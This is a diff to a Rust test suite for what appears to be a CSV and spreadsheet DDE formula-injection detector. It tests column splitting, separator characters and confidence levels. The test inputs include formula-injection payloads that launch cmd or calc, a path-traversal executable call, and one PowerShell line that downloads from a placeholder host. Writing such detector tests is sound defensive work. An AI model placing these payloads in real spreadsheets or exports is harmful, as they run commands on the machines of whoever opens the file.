@@ -308,13 +308,98 @@ fn a_blank_in_front_makes_it_less_sure() {
     assert_eq!(only("=VTS|Display!Tag").confidence, Confidence::Low);
 }
 
-/// §5.3: columns with `|` between them.
+/// §5.3: columns with `|` between them. A bare word there is no link, but is not hidden either.
 #[test]
-fn where_bars_are_columns_only_programs_count() {
-    let rows = "=a|b!c|d\n".repeat(5);
-    assert!(links(&rows).is_empty());
-    assert_eq!(links("=a|b!c|d\n").len(), 1);
-    assert_eq!(triples(format!("{rows}{CALC}")), [FOUND]);
+fn where_bars_are_columns_words_are_inert() {
+    let rows = "Berlin|5280|ok!\n".repeat(5);
+    let kind = |text: &str| {
+        let text = format!("{rows}{text}\n");
+        links(text)
+            .into_iter()
+            .map(|link| link.kind)
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(kind("=a|b!c|d"), [Kind::Inert]);
+    for link in [
+        CALC,
+        "=cmd|calc!A0",
+        "=c m d|calc!A0",
+        "=srv|'t'!i",
+        "=srv|/c!i",
+        "=srv|a.exe!i",
+        "=\\\\h\\s\\x|t!i",
+        "=srv|http://h/x!i",
+    ] {
+        assert_eq!(kind(link), [Kind::Dde], "{link}");
+    }
+}
+
+/// A list of links is no table, whatever stands in them.
+#[test]
+fn bars_of_links_are_no_columns() {
+    for row in [
+        "=MT4|BID!EURUSD",
+        "1,=bar|'/c powershell iwr http://x.invalid/a'!A",
+        "x;\"=a|'b'!c\"",
+    ] {
+        for count in [4, 5, 40] {
+            let links = links(format!("{row}\n").repeat(count));
+            assert_eq!(links.len(), 1, "{row}");
+            assert_eq!(links[0].kind, Kind::Dde);
+        }
+    }
+}
+
+/// Of the ways to split a text, the narrowest field that says it is its cell.
+#[test]
+fn the_cell_of_a_link_is_the_narrowest() {
+    let text = "a,b\n@SUM(cmd|'/c calc'!A0),=MSEXCEL|'\\..\\..\\x.exe /s'!''\n";
+    let found = links(text);
+    let [first, second] = found.as_slice() else {
+        panic!("{found:#?}");
+    };
+    let link = if first.raw.contains("MSEXCEL") {
+        first
+    } else {
+        second
+    };
+    assert_eq!(link.raw, "=MSEXCEL|'\\..\\..\\x.exe /s'!''");
+    assert_eq!(link.location.to_string(), "a.csv › B2 @ byte 27");
+}
+
+/// What a list item, a mention or a changed line may be, with the name of a program in it.
+#[test]
+fn bare_programs_behind_a_sign_are_doubtful() {
+    for text in ["@bash|zsh!yes", "+cmd|python!ruby", "-bash|collapse!toggle"] {
+        assert_eq!(only(text).confidence, Confidence::Low, "{text}");
+    }
+    for text in [
+        "=bash|zsh!yes",
+        "+cmd|/c!A1",
+        "-cmd|'/c calc'!A0",
+        "@cmd|..\\x!A",
+        "+cmd|a.exe!x",
+    ] {
+        assert_eq!(only(text).confidence, Confidence::High, "{text}");
+    }
+}
+
+/// §5.3: `sep=` names one character, whatever it is.
+#[test]
+fn the_separator_may_be_any_character() {
+    for separator in [
+        "\x01", "\x07", "\x1b", "\x1f", "\x7f", "\u{a0}", "\u{200b}", "\u{feff}",
+    ] {
+        let text = format!("sep={separator}\r\n1{separator}{CALC}\r\n");
+        assert_eq!(triples(&text), [FOUND], "{separator:?}");
+    }
+    let text = format!("sep=\u{200b};\r\n1;{CALC}\r\n");
+    assert_eq!(triples(&text), [FOUND]);
+    assert_eq!(triples(format!("sep=\0^\r\n1^{CALC}\r\n")), [FOUND]);
+    assert_eq!(
+        triples([b"sep=\xa0\r\n1\xa0".as_slice(), CALC.as_bytes()].concat()),
+        [FOUND]
+    );
 }
 
 #[test]
